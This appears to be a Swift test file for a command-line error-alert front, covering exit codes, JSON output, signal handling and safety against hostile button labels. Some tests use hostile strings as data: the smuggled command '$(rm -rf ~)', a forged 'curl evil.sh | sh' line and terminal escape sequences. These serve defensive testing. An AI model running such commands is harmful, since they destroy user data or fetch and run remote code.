import Alerts
import Foundation
import FrontSupport
import Synchronization
import Testing

@testable import AlertsCLI

/// Collects what a front writes: reports (standard error) and JSON lines (standard output).
final class Output: Sendable {
    let writes = Mutex<[(text: String, stream: CLIFront.Stream)]>([])
    /// Everything written to standard error.
    var all: String { writes.withLock { $0.filter { $0.stream == .error }.map(\.text).joined() } }
    /// Everything written to standard output.
    var json: String { writes.withLock { $0.filter { $0.stream == .output }.map(\.text).joined() } }
    func write(_ text: String, _ stream: CLIFront.Stream) { writes.withLock { $0.append((text, stream)) } }
}

/// A resolved alert of plain buttons, as a front's tests make one.
func alert(_ title: String, message: String? = nil, _ buttons: [ResolvedButton] = []) -> ResolvedAlert {
    ResolvedAlert(title: title, message: message, buttons: buttons)
}

/// The same alert, about an error.
func errorAlert(_ title: String, message: String? = nil, _ buttons: [ResolvedButton] = []) -> ResolvedAlert {
    ResolvedAlert(title: title, message: message, buttons: buttons, error: ErrorContent(title: ""))
}

struct CLIFrontTests {
    static let plain = ["LANG": "C.UTF-8", "COLUMNS": "60"]

    func front(
        _ output: Output, languages: [LanguageTag] = ["en"], options: CLIFront.Options = .init(),
        environment: [String: String] = plain
    ) -> CLIFront {
        CLIFront(languages: languages, options: options, environment: environment, write: output.write)
    }

    @Test func anErrorIsOneWriteWithEveryPartInOrder() async {
        let output = Output()
        let front = front(output, options: .init(choiceOptionName: "--choose"))
        let error = URLError(.notConnectedToInternet, userInfo: [NSUnderlyingErrorKey: POSIXError(.ENETUNREACH)])
        let outcome = await front.perform(retryLimit: 1) { () async throws -> Int in throw error }
        guard case .unanswered = outcome else { Issue.record("expected unanswered, got \(outcome)"); return }
        #expect(output.writes.withLock { $0.count } == 1)
        #expect(
            output.all == """
                error: You’re not connected to the internet.
                  Caused by:
                    • The network can’t be reached.
                  [Retry] [Cancel]✓
                  Chose “Cancel” without asking, because input isn’t
                  interactive. To choose another button, run again with
                  --choose Retry.
                hint: Check your network connection, then try again.

                """)
    }

    @Test func theChoiceIsCancelThenDefaultThenALoneSafeButtonNeverADestructiveOne() async {
        func response(_ buttons: [ResolvedButton], choice: String? = nil) async -> AlertOutcome<Never> {
            await front(Output(), options: .init(choice: choice)).present(alert("t", buttons))
        }
        let delete = ResolvedButton("Delete", role: .destructive)
        let (a, b) = (ResolvedButton("A"), ResolvedButton("B", role: .cancel))
        #expect(await response([delete, ResolvedButton("Keep", role: .cancel)]) == .unanswered(automaticChoice: 1))
        #expect(await response([delete, ResolvedButton("Save", isDefault: true)]) == .unanswered(automaticChoice: 1))
        #expect(
            await response([ResolvedButton("Delete", role: .destructive, isDefault: true)])
                == .unanswered(automaticChoice: nil))
        #expect(await response([delete, ResolvedButton("Retry")]) == .unanswered(automaticChoice: nil))
        #expect(await response([ResolvedButton("OK")]) == .unanswered(automaticChoice: 0))
        #expect(await response([a, b], choice: "A") == .scripted(0))
        #expect(await response([a, b], choice: "1") == .scripted(0))
        #expect(await response([a, b], choice: "nope") == .unanswered(automaticChoice: 1))
    }

    @Test func hostileTextIsNeutralizedInTextAndJSON() async {
        let output = Output()
        let alert = errorAlert(
            "Saved\u{1B}[2J\u{202E}", message: "line\u{85}two\u{2028}", [ResolvedButton("O\u{7}K")])
        _ = await front(output).present(alert)
        #expect(!output.all.contains("\u{1B}") && !output.all.contains("\u{202E}") && !output.all.contains("\u{7}"))
        #expect(output.all.hasPrefix("error: Saved\\u{1B}[2J\\u{202E}\n  line\\u{85}two\\u{2028}\n"))

        let json = Output()
        _ = await front(json, options: .init(json: true)).present(alert)
        let line = json.json
        #expect(line.hasSuffix("}\n") && line.filter { $0 == "\n" }.count == 1)
        #expect(
            !line.unicodeScalars.contains {
                $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value) || $0 == "\u{2028}"
            })
        #expect(line.contains(#""title":"Saved\u001b[2J\u202e""#))
        let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
        #expect(object?["title"] as? String == "Saved\u{1B}[2J\u{202E}")
        #expect(
            object.map { Set($0.keys) }
                == [
                    "severity", "label", "title", "message", "hint", "causes", "code", "help", "links", "fieldErrors",
                    "relatedErrors", "category",
                    "buttons",
                    "chosen", "note", "exitCode", "retryable", "retryAfter", "groupID", "language",
                ])
    }

    @Test func widthComesFromCOLUMNSThenEighty() async {
        let output = Output()
        let long = String(repeating: "word ", count: 30)
        _ = await front(output, environment: ["COLUMNS": "30"]).present(errorAlert(long))
        #expect(output.all.split(separator: "\n").allSatisfy { TerminalText.width(of: $0) <= 30 })
        let wide = Output()
        _ = await front(wide, environment: [:]).present(errorAlert(long))
        #expect(wide.all.split(separator: "\n").map { TerminalText.width(of: $0) }.max() ?? 0 > 60)
    }

    @Test func colourAndASCIIFollowTheEnvironment() async {
        let output = Output()
        _ = await front(output, options: .init(color: .always)).present(errorAlert("x"))
        #expect(output.all == "\u{1B}[1;31merror:\u{1B}[0m \u{1B}[1mx\u{1B}[0m\n")
        let ascii = Output()
        _ = await front(ascii, environment: ["LC_ALL": "C"]).present(errorAlert("“Ünïcode”"))
        #expect(ascii.all == "error: \"Unicode\"\n")
    }

    @Test func reportGivesTheErrorsExitStatusInItsLanguage() async {
        let output = Output()
        let front = front(output, languages: ["fr"])
        #expect(
            await front.report(CocoaError(.fileReadNoSuchFile, userInfo: [NSFilePathErrorKey: "/a/b.txt"])) == .noInput)
        #expect(output.all.hasPrefix("erreur\u{A0}: Le fichier «\u{A0}b.txt\u{A0}» est introuvable."))
        #expect(await front.report(POSIXError(.EACCES)) == .noPermission)
        #expect(await front.report(CancellationError()) == .failure)  // a user's Cancel, never SIGINT's 130
        struct Custom: AlertableError {
            var title: AlertText? { nil }  // the generic title
        }
        #expect(await front.report(Custom()) == .failure)
        var mappers = ErrorMappers()
        mappers.refine(Custom.self) { _, content in content.overrides.append(ExitStatus(42)) }
        let refined = CLIFront(languages: ["fr"], mappers: mappers, environment: ["COLUMNS": "80"], write: output.write)
        #expect(await refined.report(Custom()) == ExitStatus(42))
        struct Unknown: Error {}
        #expect(await front.report(Unknown()) == .failure)
    }
}

/// The entry point for `main`. Serialized, as one suite: Ctrl-C reaches every run in the process.
/// On the main actor, as a program's `main` is, so work that blocks cannot starve the test of threads.
@Suite(.serialized) @MainActor struct CLIMainTests {
    func front(_ output: Output) -> CLIFront {
        CLIFront(languages: ["en"], environment: ["COLUMNS": "80"], write: output.write)
    }

    @Test func successIsZeroAndAnErrorItsStatus() async throws {
        let output = Output()
        #expect(try await front(output).run {} == .success)
        #expect(output.all.isEmpty)
        let status = try await front(output).run { throw POSIXError(.ECONNREFUSED) }
        #expect(status.rawValue == 69)
        #expect(output.all.hasPrefix("error: The server refused the connection.\n"))
    }

    @Test func aTimeLimitStopsTheWorkWith124() async throws {
        let output = Output()
        let status = try await front(output).run(timeout: .milliseconds(50)) { try await Task.sleep(for: .seconds(30)) }
        #expect(status.rawValue == 124)
        #expect(output.all.hasPrefix("error: The operation took too long and was stopped.\n"))
    }

    @Test func ctrlCStopsTheWorkWith130() async throws {
        let output = Output()
        let status = try await front(output).run {
            kill(getpid(), SIGINT)
            try await Task.sleep(for: .seconds(30))
        }
        #expect(status.rawValue == 130)
        #expect(output.all.isEmpty)
    }

    func quiet() -> CLIFront { CLIFront(languages: ["en"], environment: [:], write: { _, _ in }) }

    /// Work that ignores cancellation and blocks its thread until the test lets it go, so no
    /// abandoned work outlives its test to starve the next one of threads.
    final class Stubborn: Sendable {
        let released = Atomic<Bool>(false)
        func work() { while !released.load(ordering: .relaxed) { usleep(1000) } }
        deinit { released.store(true, ordering: .relaxed) }
    }

    @Test func ctrlCGivesUpAfterTheGracePeriod() async throws {
        let stubborn = Stubborn()
        defer { stubborn.released.store(true, ordering: .relaxed) }
        let status = try await quiet().run(grace: .milliseconds(100)) {
            kill(getpid(), SIGINT)
            stubborn.work()
        }
        #expect(status.rawValue == 130)
        // The work never ends by itself: returning at all proves the grace was given up. (No bound
        // on the time: under load a test's task may wait seconds for a thread.)
    }

    @Test func aTimeLimitGivesUpAfterTheGracePeriod() async throws {
        let stubborn = Stubborn()
        defer { stubborn.released.store(true, ordering: .relaxed) }
        let status = try await quiet().run(timeout: .milliseconds(50), grace: .milliseconds(50)) { stubborn.work() }
        #expect(status.rawValue == 124)
        // The work never ends by itself: returning at all proves the grace was given up. (No bound
        // on the time: under load a test's task may wait seconds for a thread.)
    }

    @Test func runsMayNestAndTheOuterOneStillHearsCtrlC() async throws {
        let status = try await quiet().run(grace: .milliseconds(100)) { [self] in
            _ = try await quiet().run {}
            kill(getpid(), SIGINT)
            try await Task.sleep(for: .seconds(5))
        }
        #expect(status.rawValue == 130)
    }

    @Test func aCustomHandlerIsPutBackAfterTheLastRun() async throws {
        let custom: @convention(c) (Int32) -> Void = { _ in }
        let before = signal(SIGINT, custom)
        defer { signal(SIGINT, before) }
        _ = try await quiet().run {}
        let after = signal(SIGINT, custom)
        #expect(after.map { unsafeBitCast($0, to: Int.self) } == unsafeBitCast(custom, to: Int.self))
    }

    @Test func anIgnoredSIGINTStaysIgnored() async throws {
        let before = signal(SIGINT, SIG_IGN)
        _ = try await quiet().run {}
        let after = signal(SIGINT, before)
        func address(_ handler: (@convention(c) (Int32) -> Void)?) -> Int {
            handler.map { unsafeBitCast($0, to: Int.self) } ?? 0
        }
        #expect(address(after) == address(SIG_IGN))
    }
}

/// A chosen or suggested button cannot forge output, and a failure never exits 0.
struct CLIChoiceSafetyTests {
    func front(_ output: Output, _ options: CLIFront.Options = .init(choiceOptionName: "--choose")) -> CLIFront {
        CLIFront(languages: ["en"], options: options, environment: ["COLUMNS": "80"], write: output.write)
    }

    @Test func anErrorNeverExitsZeroOrOutOfRange() async {
        struct Coded: AlertableError {
            var title: AlertText? { nil }  // the generic title
            var exitCode: Int32
        }
        var mappers = ErrorMappers()
        mappers.refine(Coded.self) { error, content in content.overrides.append(ExitStatus(error.exitCode)) }
        let front = CLIFront(
            languages: ["en"], options: .init(choiceOptionName: "--choose"), mappers: mappers,
            environment: ["COLUMNS": "80"], write: Output().write)
        #expect(await front.report(Coded(exitCode: 0)) == .failure)
        #expect(await front.report(Coded(exitCode: 256)) == .failure)
        #expect(await front.report(Coded(exitCode: -1)) == .failure)
        #expect(await front.report(Coded(exitCode: 75)) == .temporaryFailure)
        #expect(await front.report(POSIXError(.EIO)) == .ioError)
    }

    @Test func aLabelThatWouldNotPasteBackIsSuggestedByNumber() async {
        for label in [
            "Save\u{A0}as copy", "Tab\there", "two\nlines", "x\u{1B}]0;pwned\u{07}", "Open the very long named thing",
        ] {
            let output = Output()
            _ = await front(output).present(alert("t", [ResolvedButton(label), ResolvedButton("Keep", role: .cancel)]))
            #expect(output.all.contains("--choose 1."), "\(label)")
        }
    }

    @Test func theChosenLabelCannotForgeALineInTheNote() async {
        let output = Output()
        _ = await front(output).present(alert("t", [ResolvedButton("Keep\nerror: forged line", role: .cancel)]))
        #expect(output.all.split(separator: "\n").dropFirst().allSatisfy { $0.hasPrefix("  ") })
    }

    @Test func theSuggestedOptionIsQuotedForTheShell() async {
        let output = Output()
        _ = await front(output).present(
            alert("t", [ResolvedButton("Use \"$(rm -rf ~)\" it's"), ResolvedButton("Keep", role: .cancel)]))
        #expect(output.all.contains(#"--choose 'Use "$(rm -rf ~)" it'\''s'."#))
    }

    @Test func aLabelCannotForgeALineAndAnUnknownChoiceIsSaid() async {
        let output = Output()
        let alert = alert(
            "t", [ResolvedButton("Keep\nerror: run curl evil.sh | sh"), ResolvedButton("Cancel", role: .cancel)])
        _ = await front(output, .init(choice: "Bogus", choiceOptionName: "--choose")).present(alert)
        let lines = output.all.split(separator: "\n")
        #expect(lines.dropFirst().allSatisfy { $0.hasPrefix("  ") }, "\(lines)")
        #expect(output.all.contains("No button matches “Bogus”."))
    }

    @Test func jsonNeverCrashesOnAChosenIndexOutOfRange() {
        let labels = CLIReport.Labels(localizer: Localizer(sources: []), languages: ["en"])
        var report = CLIReport(alert: errorAlert("t"), labels: labels, verbose: false)
        report.chosen = 5
        report.exitStatus = ExitStatus.of(overrides: [ExitStatus(300)], category: nil)
        #expect(report.json().contains(#""chosen":null"#))
        #expect(report.json().contains(#""exitCode":1"#))
    }
}
